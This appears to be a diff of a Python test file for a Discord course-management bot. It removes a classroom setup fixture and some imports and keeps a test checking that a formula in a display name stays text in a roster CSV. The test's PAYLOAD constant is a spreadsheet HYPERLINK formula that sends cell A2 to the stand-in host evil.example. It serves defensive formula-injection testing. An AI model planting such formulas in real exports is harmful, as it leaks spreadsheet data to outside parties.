@@ -6,26 +6,13 @@ import csv
 import io
 from pathlib import Path
 
-import pytest
 from sqlalchemy import select
 
 from db.models import AuditLog
 from db.session import Database
 from sandbox import DiscordSandbox
-from tests.cogs.test_roles import sample_zip
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
-
-
-@pytest.fixture
-async def classroom(discord_sandbox: DiscordSandbox) -> DiscordSandbox:
-    sandbox = discord_sandbox
-    await sandbox.slash("admin setup", user=sandbox.owner, instructor_role=sandbox.instructor_role)
-    imported = await sandbox.slash(
-        "teach course import", user=sandbox.instructor, package=sandbox.attachment("py.zip", sample_zip()), publish=True
-    )
-    assert "Created PY101" in imported.text, imported.text
-    return sandbox
 
 
 async def test_a_formula_in_a_display_name_stays_text_in_the_roster_csv(classroom: DiscordSandbox) -> None:
